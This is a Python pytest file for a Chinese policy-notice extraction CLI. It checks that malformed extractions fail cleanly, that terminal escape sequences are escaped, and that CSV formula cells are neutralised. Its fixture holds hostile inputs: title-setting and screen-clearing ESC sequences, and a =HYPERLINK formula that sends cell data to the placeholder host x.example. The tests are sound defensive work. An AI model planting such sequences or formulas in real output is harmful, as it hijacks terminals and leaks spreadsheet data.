"""Issue 17: hand-edited extractions give `fengong diff` one line and exit 2 (not a traceback and
exit 1, which reads as "differences found"); nothing from a notice drives a terminal or a
spreadsheet (ESC sequences escaped, formula cells neutralised)."""

from __future__ import annotations

import copy
import csv
import io
import json
from pathlib import Path

import pytest

from pipeline.cli import main
from pipeline.safe_text import path_text, printable

NOTICE = (
    "关于印发分工方案的通知\n一、优化营商环境\n（一）开办企业\n1.推行企业开办。\n牵头单位：市市场监管局\n"
    "2.建设\x1b]0;pwned\x07平台\x1b[2J。\n"
    '牵头单位：=HYPERLINK("http://x.example/?"&A1,"点击")、@SUM(1+1)、+市税务局、-市财政局\n'
)


@pytest.fixture
def extraction(tmp_path) -> dict:
    notice = tmp_path / "n.txt"
    notice.write_text(NOTICE, encoding="utf-8")
    assert main(["extract", str(notice), "-o", str(tmp_path / "x"), "-q"]) == 0
    return json.loads((tmp_path / "x" / "n.json").read_text(encoding="utf-8"))


def _diff(capsys, tmp_path: Path, old: dict | str, new: dict, *extra: str) -> tuple[int, str, str]:
    paths = []
    for name, data in (("old.json", old), ("new.json", new)):
        path = tmp_path / name
        path.write_text(data if isinstance(data, str) else json.dumps(data, ensure_ascii=False), encoding="utf-8")
        paths.append(str(path))
    status = main(["diff", *paths, *extra])
    captured = capsys.readouterr()
    return status, captured.out, captured.err


def _broken(extraction: dict, how: str) -> dict:
    data = copy.deepcopy(extraction)
    sections = data["sections"]
    if how == "missing parent":
        sections[1]["parent"] = "s-nowhere"
    elif how == "cyclic parents":
        sections[0]["parent"] = sections[1]["id"]
    elif how == "own parent":
        sections[1]["parent"] = sections[1]["id"]
    elif how == "duplicate ids":
        data["tasks"][1]["id"] = data["tasks"][0]["id"]
    elif how == "task of no section":
        data["tasks"][0]["section"] = "s-nowhere"
    elif how == "deep nesting":
        chain = [copy.deepcopy(sections[1]) for _ in range(100)]
        for n, section in enumerate(chain):
            section["id"], section["parent"] = f"deep{n}", f"deep{n - 1}" if n else sections[1]["id"]
        sections.extend(chain)
    return data


@pytest.mark.parametrize("how", ["missing parent", "cyclic parents", "own parent", "duplicate ids", "task of no section", "deep nesting"])
def test_diff_of_a_hand_edited_extraction_is_one_line_and_exit_2(capsys, tmp_path, extraction, how):
    assert len(extraction["sections"]) == 2 and len(extraction["tasks"]) == 2
    status, out, err = _diff(capsys, tmp_path, extraction, _broken(extraction, how))
    assert status == 2 and out == ""
    assert len(err.strip().splitlines()) == 1 and err.startswith("fengong: error: ") and "new.json" in err, err


def test_diff_of_json_nested_100000_deep_is_one_line(capsys, tmp_path, extraction):
    status, _, err = _diff(capsys, tmp_path, '{"schema_version": "1", "x": ' + "[" * 100_000 + "]" * 100_000 + "}", extraction)
    assert status == 2 and len(err.strip().splitlines()) == 1, err


# --- nothing injected --------------------------------------------------------------------------


def test_printable_escapes_controls_and_keeps_chinese():
    assert printable("建设\x1b]0;pwned\x07平台\x1b[2J。") == "建设\\x1b]0;pwned\\x07平台\\x1b[2J。"
    assert printable("a\u202eb\x85c\td\ne") == "a\\u202eb\\x85c\td\ne"
    assert printable("c\td\ne", one_line=True) == "c\\x09d\\x0ae"
    assert path_text("in/\udcb9\udcd8.txt") == "in/\\xb9\\xd8.txt"


@pytest.mark.parametrize("fmt", ["text", "md"])
def test_diff_reports_escape_esc_sequences(capsys, tmp_path, extraction, fmt):
    new = copy.deepcopy(extraction)
    new["tasks"][1]["text"] += "\x1b[31m新增\x1b]0;x\x07"
    status, out, _ = _diff(capsys, tmp_path, extraction, new, "--format", fmt)
    assert status == 1
    assert "\x1b" not in out and "\x07" not in out
    assert "\\x1b" in out


def test_units_table_escapes_and_units_csv_neutralises(capsys, tmp_path, extraction):
    path = tmp_path / "e.json"
    path.write_text(json.dumps(extraction, ensure_ascii=False), encoding="utf-8")
    assert main(["units", str(path)]) == 0
    table = capsys.readouterr().out
    assert "\x1b" not in table and "\x07" not in table
    assert main(["units", str(path), "--format", "csv"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out.lstrip("\ufeff"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
